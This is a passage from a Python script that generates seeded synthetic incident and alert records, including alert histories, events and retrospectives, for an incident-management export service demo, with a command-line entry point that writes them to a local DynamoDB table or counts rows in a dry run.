        elif kind == "ChatMessage":
            draft.event(at, kind, person.name, {"chat_user_id": person.chat_id})
        else:
            update = {"description": draft.text(_GENERAL_UPDATES, 0.02, **values)}
            draft.event(at, kind, commander.name, update, edited)

    # Seed 002's alert history: NEW at creation, ONGOING as alerts arrive, RESOLVED at resolution, maybe REOPENED.
    uploads: list[int] = []

    def alert_refs(at: int) -> list[dict[str, str]]:
        refs = []
        for _ in range(rng.randint(1, 3)):
            uploads.append(max(lo, at - rng.randint(0, 30 * _MINUTE)))
            violation = f"{rng.choice(_VIOLATION_PREFIXES)}.{_base36(rng, rng.randint(4, 9))}"
            refs.append({"metric_time": _stamp(uploads[-1]), "violation_name": violation})
        return refs

    alerts_until = reopen[0] if reopen else times.get("mitigated", activity_end)
    history = [(created, "NEW", alert_refs(created))]
    for at in sorted(draft.between(created, alerts_until) for _ in range(rng.choice((0, 1, 1, 2, 3)))):
        history.append((at, "ONGOING", alert_refs(at)))
    if reopen:
        history += [(reopen[0], "RESOLVED", []), (reopen[1], "REOPENED", alert_refs(reopen[1]))]
    if resolved is not None:
        history.append((resolved, "RESOLVED", []))
    changes += [at for at, _, _ in history]

    updated = max(changes)
    number = f"INC-{tenant.number_base + index + 1}"
    if is_data:
        descriptions = (
            "{policy} raised alerts on {source}: {metric} out of bounds.",
            "{metric} on {source} outside the expected range since the last upload, checked by {policy}.",
        )
    else:
        descriptions = (
            "Customers report problems with {title}; see the timeline for details.",
            "{title}: {metric} alerts from {policy} while {slug} was degraded.",
        )
    description = draft.text(
        descriptions,
        0.02,
        policy=policy_name,
        source=asset.source_name,
        metric=metrics[0]["display_metric_name"],
        **values,
    )
    incident = Incident(
        id=draft.incident_id,
        account_id=tenant.account_id,
        organization_id=tenant.organization_id,
        created_at=_at(created),
        updated_at=_at(updated),
        number=number,
        name=name,
        severity=severity,
        priority=priority,
        **{f"{milestone}_at": _at(at) for milestone, at in times.items()},
        opened_at=_at(created),
        started_by=started_by,
        active_duration=timedelta(milliseconds=(resolved if resolved is not None else updated) - times["started"]),
        status="CLOSED" if resolved is not None else "OPEN",
        impact=_weighted(rng, _IMPACT_WEIGHTS),
        project_id=int(_weighted(rng, _PROJECTS)),
        tags=sorted(rng.sample(_TAGS, rng.choice((0, 1, 1, 2, 2, 3))), key=_TAGS.index),
        asset_id=asset.asset_id,
        connection_type=asset.connection_type,
        connection_id=asset.connection_id,
        alert_policy_id=policy_id,
        alert_policy_name=policy_name,
        source_name=asset.source_name,
        description=description,
        ticket_id=ticket_id,
        last_upload_timestamp=_at(max(uploads)),
        metrics=metrics,
        history=[{"timestamp": _stamp(at), "state": state, "alert_refs": refs} for at, state, refs in history],
    )
    retrospectives = [_retrospective(draft, times, number, name, title)] if "retrospective_started" in times else []
    alerts = _alerts(incident)
    events = [
        IncidentEvent(
            id=_random_id(rng),
            account_id=tenant.account_id,
            organization_id=tenant.organization_id,
            created_at=_at(at),
            updated_at=_at(edited_at),
            incident_id=draft.incident_id,
            created_by_name=by,
            type=kind,
            event_details=details,
        )
        for at, _, kind, by, details, edited_at in sorted(draft.events, key=lambda event: (event[0], event[1]))
    ]
    return IncidentBundle(incident, events, assignments, impacts, retrospectives, alerts)


def _alerts(incident: Incident) -> list[Alert]:
    """One alert per alert_ref of the incident's history: that upload (metric_time) of the incident's asset and
    that violation. Drawn from a generator seeded by the incident's id, so adding alerts changed nothing else."""
    rng = random.Random(f"alerts:{incident.id}")
    priority = incident.severity or "MEDIUM"
    table = [part for part in incident.source_name.replace("/", ".").split(".") if part][-1].upper()
    alerts = []
    for entry in incident.history:
        for ref in entry["alert_refs"]:
            metric_ms = _ceil_ms(datetime.fromisoformat(ref["metric_time"]))
            created = metric_ms + rng.randint(5 * _SECOND, 10 * _MINUTE)
            metric = rng.choice(incident.metrics)
            observed = round(rng.uniform(0, 100), 4)
            threshold = round(rng.uniform(0, 100), 4)
            kind = _ALERT_TYPES[ref["violation_name"].split(".", 1)[0]]
            message = f"{metric['display_metric_name']} was {observed} ({kind}), outside the expected {threshold}"
            alerts.append(
                Alert(
                    type=kind,
                    source=incident.source_name,
                    asset_id=incident.asset_id,
                    attribute=metric["attribute"],
                    job_id=f"job-{_random_id(rng)}",
                    create_time=_stamp(created),
                    save_time=_stamp(created + rng.randint(100, 10 * _SECOND)),
                    violation_data={"metric_name": metric["metric_name"], "observed": observed, "threshold": threshold},
                    violation_name=ref["violation_name"],
                    notification_channels=rng.sample(_CHANNELS, rng.randint(0, 2)),
                    is_notification_enabled=rng.random() < 0.8,
                    metric_time=ref["metric_time"],
                    is_notified=rng.random() < 0.6,
                    metric_value=observed,
                    policy_name=incident.alert_policy_name,
                    segment=metric["segment"],
                    priority=priority,
                    description={priority: [message]},
                    source_name=table,
                    source_type=incident.connection_type,
                    project_name=_PROJECT_NAMES[incident.project_id],
                    tags=list(incident.tags),
                )
            )
    return alerts


def incident_bundles(
    tenant: str, count: int, start: datetime, end: datetime, seed: int = DEFAULT_SEED
) -> Iterator[IncidentBundle]:
    """``count`` incidents with their children, in created_at order over [start, end) (one per stratum, so exactly
    ``count``). Every date-time is UTC, whole milliseconds, at or after ``start`` and before ``end``."""
    lo, hi = _ceil_ms(start), _ceil_ms(end)
    if count < 0:
        raise ValueError("count must not be negative")
    if count and hi <= lo:
        raise ValueError("the window [start, end) must hold at least one millisecond")
    rng = random.Random(f"{seed}:{tenant}")
    context = _Tenant.build(tenant, rng)
    span = hi - lo
    for index in range(count):
        created = lo + int((index + rng.random()) * span / count)
        yield _bundle(context, rng, index, min(created, hi - 1), lo, hi)


def main() -> None:
    import boto3  # noqa: PLC0415 - only the command needs it

    from export_service.dal.incident_store import IncidentStore  # noqa: PLC0415
    from export_service.logic.incident_records import write_incident_bundles  # noqa: PLC0415

    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--endpoint", default="http://127.0.0.1:8000", help="DynamoDB endpoint (local stack default)")
    parser.add_argument("--table", default="IncidentsTable", help="incidents table name")
    parser.add_argument("--scale", type=float, default=1.0, help="multiplies each tenant's incident count")
    parser.add_argument("--seed", type=int, default=DEFAULT_SEED)
    parser.add_argument("--days", type=int, default=DEMO_DAYS)
    parser.add_argument("--dry-run", action="store_true", help="only count the rows, write nothing")
    args = parser.parse_args()
    start, end = demo_window(days=args.days)
    store = None
    if not args.dry_run:
        store = IncidentStore(boto3.client("dynamodb", endpoint_url=args.endpoint, region_name="us-east-1"), args.table)
    for tenant, base in DEMO_INCIDENTS.items():
        bundles = incident_bundles(tenant, int(base * args.scale), start, end, args.seed)
        rows = _count_rows(bundles) if store is None else write_incident_bundles(store, tenant, bundles)
        print(f"{tenant}: " + ", ".join(f"{n:,} {name}" for name, n in rows.items()))


def _count_rows(bundles: Iterator[IncidentBundle]) -> dict[str, int]:
    counts = dict.fromkeys((dataset.value for dataset in Dataset), 0)
    for bundle in bundles:
        counts[Dataset.INCIDENTS] += 1
        counts[Dataset.INCIDENT_EVENTS] += len(bundle.events)
        counts[Dataset.INCIDENT_ROLE_ASSIGNMENTS] += len(bundle.role_assignments)
        counts[Dataset.INCIDENT_IMPACTS] += len(bundle.impacts)
        counts[Dataset.RETROSPECTIVES] += len(bundle.retrospectives)
        counts["alerts"] = counts.get("alerts", 0) + len(bundle.alerts)
    return counts


if __name__ == "__main__":
    main()
